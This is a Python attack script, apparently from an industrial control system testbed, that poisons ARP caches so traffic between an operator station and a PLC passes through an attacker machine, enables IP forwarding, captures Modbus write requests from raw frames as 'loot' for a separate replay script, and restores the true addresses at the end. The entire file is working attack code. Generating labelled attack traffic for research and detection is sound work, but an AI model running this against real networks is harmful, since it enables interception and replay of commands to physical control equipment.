"""The traffic between operator and controller passes through the attacker, who forwards it unchanged.

Forged ARP replies tell each of the two that the other has the attacker's MAC address; the kernel forwards.
The requests the operator writes with are kept as loot for replay.py. At the end the true addresses are told.
"""

import json
import socket
import struct
import subprocess
import threading
import time

from scapy.all import ARP, Ether, conf

from attacks.episode import MODBUS_PORT, arguments, between, episode
from network import ENGINEERING, OPERATOR, PLC, Host

# Seconds it lasts, seconds between two forged replies.
TIMES = {1: (45, 2.0), 2: (30, 5.0), 3: (40, 0.7)}
LONGER_SECONDS = 15
WRITE_FUNCTIONS = (5, 6, 15, 16)


def is_at(told: Host, of: Host, mac: str):
    """An ARP reply to `told`: the address of `of` is at `mac`."""
    reply = ARP(op=2, hwsrc=mac, psrc=of.ip, hwdst=told.mac, pdst=told.ip)
    return Ether(src=ENGINEERING.mac, dst=told.mac) / reply


def write_request(frame: bytes) -> bytes | None:
    """The Modbus write request in a frame from the operator, if it is one."""
    if frame[6:12] != bytes.fromhex(OPERATOR.mac.replace(":", "")) or frame[12:14] != b"\x08\x00":
        return None
    tcp = 14 + 4 * (frame[14] & 15)
    length = struct.unpack(">H", frame[16:18])[0]
    if frame[23] != 6 or struct.unpack(">H", frame[tcp + 2 : tcp + 4])[0] != MODBUS_PORT:
        return None
    payload = frame[tcp + 4 * (frame[tcp + 12] >> 4) : 14 + length]
    return payload if len(payload) > 7 and payload[7] in WRITE_FUNCTIONS else None


def listen(loot: list[str], stop: threading.Event) -> None:
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    wire.bind(("eth0", 0))
    wire.settimeout(0.2)
    while not stop.is_set():
        try:
            frame = wire.recv(2048)
        except TimeoutError:
            continue
        if (request := write_request(frame)) is not None:
            loot.append(request.hex())


def forwarding(on: bool) -> None:
    settings = ["net.ipv4.conf.all.send_redirects=0", "net.ipv4.conf.eth0.send_redirects=0"]
    subprocess.run(["sysctl", "-qw", *settings, f"net.ipv4.ip_forward={int(on)}"], check=True)


if __name__ == "__main__":
    given = arguments(__doc__)
    loot: list[str] = []
    stop = threading.Event()
    listener = threading.Thread(target=listen, args=(loot, stop))
    wire = conf.L2socket(iface="eth0")
    # To forward, the attacker may have to ask for the operator's station, with which it has no other business.
    claims = [{"kind": "between", "mac": ENGINEERING.mac, "ips": [OPERATOR.ip, PLC.ip]}, between(ENGINEERING, OPERATOR)]
    description = "operator and plc talk through the attacker, who changes nothing and notes the write requests"
    seconds, pause = TIMES[given.number]
    with episode(given.log, f"arp_spoof_{given.number}", description, claims):
        forwarding(True)
        listener.start()
        end = time.monotonic() + seconds
        # It stays a little longer, if the operator has hardly written anything yet.
        while time.monotonic() < end or (len(loot) < 3 and time.monotonic() < end + LONGER_SECONDS):
            wire.send(is_at(OPERATOR, PLC, ENGINEERING.mac))
            wire.send(is_at(PLC, OPERATOR, ENGINEERING.mac))
            time.sleep(pause)
        for _ in range(3):
            wire.send(is_at(OPERATOR, PLC, PLC.mac))
            wire.send(is_at(PLC, OPERATOR, OPERATOR.mac))
            time.sleep(0.3)
        stop.set()
        listener.join()
        forwarding(False)
    with open(given.loot, "w") as out:
        json.dump(loot, out)
